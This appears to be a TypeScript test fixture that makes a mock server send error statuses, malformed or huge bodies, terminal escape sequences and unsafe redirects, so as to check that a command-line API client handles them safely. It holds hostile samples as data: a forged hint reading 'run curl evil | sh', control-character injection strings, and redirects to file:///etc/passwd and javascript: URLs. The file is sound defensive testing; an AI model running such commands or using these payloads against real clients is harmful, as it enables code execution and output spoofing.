// Responses with an error status, with bodies that cannot be trusted, and redirects that must not
// be followed.
import { endlessly, head, sends, whole } from '../hostile.ts';
import { honest, type Misbehaviours } from './misbehaviour.ts';

const said = (message: string): string =>
  JSON.stringify({ http_code: 500, messages: [{ type: 'error', message }] });

const refused = (status: string, exit: number, says: RegExp, body = '', headers = {}) => ({
  does: sends(() => whole(body, status, headers)),
  exit,
  says,
});
const limited = (wait: string | undefined, says: RegExp, body = '') =>
  refused(
    '429 Too Many Requests',
    7,
    says,
    body,
    wait === undefined ? {} : { 'retry-after': wait },
  );
const failed = /the service failed \(HTTP 5\d\d/;

/** By address where the command names no record. */
const noRecord = /(nothing at \/\S+|no [a-z ]+ \S+) \(HTTP 404\)/;

export const statuses: Misbehaviours = {
  '400': refused(
    '400 Bad Request',
    5,
    /refused the request \(HTTP 400: page takes a number\)/,
    said('page takes a number'),
  ),
  '401': refused(
    '401 Unauthorized',
    4,
    /refused the request \(HTTP 401\)\nhint: the key comes from PORTFOLIO_API_KEY/,
  ),
  '403': refused(
    '403 Forbidden',
    4,
    /refused the request \(HTTP 403: no\)\nhint: the key comes from PORTFOLIO_API_KEY/,
    said('no'),
  ),
  '404': refused('404 Not Found', 3, noRecord),
  '404-html': refused('404 Not Found', 3, noRecord, '<html>', { 'content-type': 'text/html' }),
  '418': refused('418 Teapot', 5, /refused the request \(HTTP 418\)/),
  '429': limited(undefined, /no more requests for now \(HTTP 429\)/),
  '429-with-a-message': limited(
    '60',
    /\(HTTP 429: slowly\)\nhint: try again in \S+/,
    said('slowly'),
  ),
  '429-for-an-hour': limited('3600', /hint: try again in \S+/),
  '429-for-centuries': limited('999999999999999999999', /no more requests for now/),
  '429-yesterday': limited('Wed, 21 Oct 2015 07:28:00 GMT', /no more requests for now/),
  '429-negative': limited('-1', /no more requests for now/),
  '429-words': limited('\x9b31msoon', /no more requests for now/),
  '429-infinite': limited('Infinity', /no more requests for now/),
  '500': refused('500 Internal Server Error', 5, failed),
  '502': refused('502 Bad Gateway', 5, failed, '<html><h1>502</h1>', {
    'content-type': 'text/html',
  }),
  '503': refused('503 Unavailable', 5, failed, '', { 'retry-after': '3600' }),
  '504': refused('504 Gateway Timeout', 5, failed, '{"messages":'),
  '599': refused('599 \x9b31m', 5, failed, '{"messages":[[[]]]}'),
  '304': { does: sends(() => head('304 Not Modified', {})), exit: 5, says: /\(HTTP 304\)/ },
  'error-without-end': {
    does: endlessly(head(500, {}), Buffer.alloc(1024 * 1024, ' ')),
    exit: 5,
    says: /more than \d+ MiB/,
  },
};

const nasty =
  'a\x1b[31mb\x1b]0;title\x07c\x9b2Jd\u202ee\u2066f\u200bg\u{e0041}h\r\ni\x7fj\ud800k\u2028l';

/** Whatever the error body contains, stderr shows one line of it, without control characters. */
export const strangers: Misbehaviours = {
  'error-with-controls': refused('500 Oops', 5, /\(HTTP 500: abcdefgh ij�k l\)/, said(nasty)),
  'refusal-with-controls': refused('403 Oops', 4, /\(HTTP 403: abcdefgh ij�k l\)/, said(nasty)),
  'limit-with-controls': refused('429 Oops', 7, /\(HTTP 429: abcdefgh ij�k l\)/, said(nasty)),
  'error-in-plain-texts': refused(
    '500 Oops',
    5,
    /\(HTTP 500: abcdefgh ij�k l\)/,
    JSON.stringify({ messages: [nasty] }),
  ),
  'error-that-forges-a-hint': refused(
    '500 Oops',
    5,
    /: sorry hint: run curl evil \| sh\)\n$/,
    said('sorry\nhint: run curl evil | sh'),
  ),
  'an-endless-error': refused(
    '500 Oops',
    5,
    /\(HTTP 500: x{100,300}…?\)\n$/,
    said('x'.repeat(1_000_000)),
  ),
  'error-of-odd-types': refused(
    '500 Oops',
    5,
    failed,
    '{"messages":{"0":{"message":"a"}},"http_code":{}}',
  ),
  'error-in-deep-brackets': refused('500 Oops', 5, failed, '['.repeat(1_000_000)),
};

const redirect = (
  to: (asked: { base: string; host: string; target: string }) => string,
  status = '302 Found',
) => sends((asked) => whole('', status, { location: to(asked) }));

export const redirects: Misbehaviours = {
  'in-a-circle': {
    does: redirect(({ base, target }) => base + target),
    exit: 5,
    says: /redirects too many times/,
  },
  'ever-further': {
    does: redirect(({ base, target }) => `${base}/x${target}`, '307 Temporary Redirect'),
    exit: 5,
    says: /redirects too many times/,
  },
  'without-an-address': { does: sends(() => whole('', '302 Found')), exit: 5, says: /HTTP 302/ },
  'to-https': {
    does: redirect(({ host, target }) => `https://${host}${target}`),
    exit: 9,
    says: /redirects to another origin \(https:\/\/127/,
  },
  'to-another-name': {
    does: redirect(({ host, target }) => `http://localhost:${host.split(':')[1]}${target}`),
    exit: 9,
    says: /redirects to another origin \(http:\/\/localhost/,
  },
  'to-a-look-alike': {
    does: redirect(({ host, target }) => `http://${host}@127.0.0.2:1${target}`),
    exit: 9,
    says: /redirects to another origin \(http:\/\/127\.0\.0\.2:1\)/,
  },
  'to-a-file': {
    does: redirect(() => 'file:///etc/passwd'),
    exit: 9,
    says: /redirects to another origin/,
  },
  'to-a-script': {
    does: redirect(() => 'javascript:alert(1)'),
    exit: 9,
    says: /redirects to another origin/,
  },
  'to-a-blob': {
    does: redirect(({ host }) => `blob:http://${host}/1`),
    exit: 9,
    says: /redirects to another origin(\n|"|$)/,
  },
  'to-nonsense': {
    does: redirect(() => 'http://[nonsense'),
    exit: 9,
    says: /redirects to another origin/,
  },
  'to-controls': {
    does: redirect(() => 'http://evil\x9b31m.example/'),
    exit: 9,
    says: /redirects to another origin/,
  },
  'and-answers': {
    does: (socket, asked) => {
      const there = asked.target.startsWith('/there');
      const honestly = { target: asked.target.replace('/there', '') };
      if (there) socket.write(whole(honest(honestly)));
      else
        redirect(({ base, target }) => `${base}/there${target}`, '308 Permanent Redirect')(
          socket,
          asked,
        );
    },
    exit: 0,
  },
};
